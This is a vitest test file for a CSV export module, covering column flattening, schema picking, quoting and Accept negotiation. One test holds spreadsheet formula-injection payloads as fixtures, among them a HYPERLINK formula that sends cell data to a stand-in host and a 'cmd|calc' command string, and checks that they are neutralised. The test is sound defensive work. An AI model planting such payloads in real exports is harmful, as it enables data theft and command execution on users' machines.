/** CSV answers: BOM, header, flattening, Chinese text, quoting by csv-stringify; Accept negotiation. */

import { Type } from '@sinclair/typebox';
import { describe, expect, it } from 'vitest';
import { columnsOf, flatten, pick, toCsv, wantsCsv } from '../../api/csv.ts';

describe('flatten', () => {
  it('nests objects as dotted columns and keyed arrays per kind', () => {
    expect(
      flatten({
        id: 'finance',
        name: { zh: '财务处', en: 'Finance' },
        quota: [
          { kind: 'electricity', unit: 'kWh', amount: 10, usedPercent: 50 },
          { kind: 'water', unit: 'm³', amount: 2, usedPercent: null },
        ],
        standard: null,
        times: ['a', 'b'],
        empty: [],
      }),
    ).toEqual({
      id: 'finance',
      'name.zh': '财务处',
      'name.en': 'Finance',
      'quota.electricity.unit': 'kWh',
      'quota.electricity.amount': 10,
      'quota.electricity.usedPercent': 50,
      'quota.water.unit': 'm³',
      'quota.water.amount': 2,
      'quota.water.usedPercent': null,
      standard: null,
      times: 'a;b',
      empty: '',
    });
  });
});

describe('pick', () => {
  it('keeps only what the schema lists, as the JSON answer does', () => {
    const schema = Type.Object({
      id: Type.String(),
      name: Type.Object({ zh: Type.String() }),
      standard: Type.Union([Type.Object({ rating: Type.String() }), Type.Null()]),
      quota: Type.Array(Type.Object({ kind: Type.String() })),
      tariff: Type.Record(Type.String(), Type.Object({ kwh: Type.Number() })),
    });
    expect(
      pick(schema, {
        id: 'a',
        secret: 's',
        name: { zh: '甲', en: 'A' },
        standard: { rating: 'between', internal: 1 },
        quota: [{ kind: 'water', hidden: true }],
        tariff: { peak: { kwh: 1, x: 2 } },
      }),
    ).toEqual({
      id: 'a',
      name: { zh: '甲' },
      standard: { rating: 'between' },
      quota: [{ kind: 'water' }],
      tariff: { peak: { kwh: 1 } },
    });
    expect(pick(schema, { id: 'b', standard: null })).toEqual({ id: 'b', standard: null });
  });
});

describe('toCsv', () => {
  it('writes a BOM, a header of every column, CRLF rows, and quotes what needs it', () => {
    const text = toCsv([
      { id: 'b1', name: { zh: '1号楼, 主楼', en: 'Building "1"' }, ok: true },
      { id: 'b2', name: { zh: '2号楼', en: 'B2' }, ok: false, extra: 1.5 },
    ]);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1).split('\r\n')).toEqual([
      'id,name.zh,name.en,ok,extra',
      'b1,"1号楼, 主楼","Building ""1""",true,',
      'b2,2号楼,B2,false,1.5',
      '',
    ]);
  });

  it('escapes text cells a spreadsheet would run as a formula, and leaves numbers as numbers', () => {
    const text = toCsv([
      {
        name: '=HYPERLINK("http://x/?"&A1)',
        payload: '+1+cmd|calc',
        detail: '-2+3',
        note: '@SUM(A1)',
        n: -3.5,
      },
      { name: '\tTAB', payload: '\rCR', detail: 'a=b', note: 'ok-', n: 0 },
      { name: '＝1+1', payload: '-', detail: '', note: null, n: -0.001 },
    ]);
    // OWASP: prefix a single quote; quoting by CSV rules comes on top (the cell holds a " or a CR).
    expect(text.slice(1).split('\r\n')).toEqual([
      'name,payload,detail,note,n',
      `"'=HYPERLINK(""http://x/?""&A1)",'+1+cmd|calc,'-2+3,'@SUM(A1),-3.5`,
      `'\tTAB,"'\rCR",a=b,ok-,0`,
      `'＝1+1,'-,,,-0.001`,
      '',
    ]);
  });

  it('quotes a cell holding a lone CR or LF, so a payload cannot start a row of its own', () => {
    const text = toCsv([{ payload: 'a\nb', detail: 'c\rd', n: 1 }]);
    expect(text.slice(1)).toBe('payload,detail,n\r\n"a\nb","c\rd",1\r\n');
  });

  it('escapes formula-like names and payloads in every column, nested and joined ones too', () => {
    const text = toCsv([
      { name: { zh: '=1+2', en: '-x' }, times: ['-1', '2'], quota: [{ kind: 'water', unit: '@u' }] },
    ]);
    expect(text.slice(1).split('\r\n')[1]).toBe(`'=1+2,'-x,'-1;2,'@u`);
  });

  it('writes the header of an empty list from the item schema', () => {
    const schema = Type.Object({
      id: Type.String(),
      name: Type.Object({ zh: Type.String(), en: Type.String() }),
      from: Type.Union([Type.Object({ lat: Type.Number() }), Type.Null()]),
      n: Type.Union([Type.Number(), Type.Null()]),
    });
    expect(columnsOf(schema)).toEqual(['id', 'name.zh', 'name.en', 'from.lat', 'n']);
    expect(toCsv([], columnsOf(schema))).toBe('\ufeffid,name.zh,name.en,from.lat,n\r\n');
  });
});

describe('wantsCsv', () => {
  it.each([
    [undefined, false],
    ['', false],
    ['*/*', false],
    ['application/json', false],
    ['text/*', false],
    ['text/csv', true],
    ['text/csv; charset=utf-8', true],
    ['TEXT/CSV', true],
    ['application/json, text/csv', true],
    ['application/json, text/csv;q=0.5', false],
    ['text/csv;q=0.9, application/json;q=0.5', true],
    ['text/csv;q=0', false],
    ['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', false],
  ])('%s → %s', (accept, expected) => {
    expect(wantsCsv(accept)).toBe(expected);
  });
});
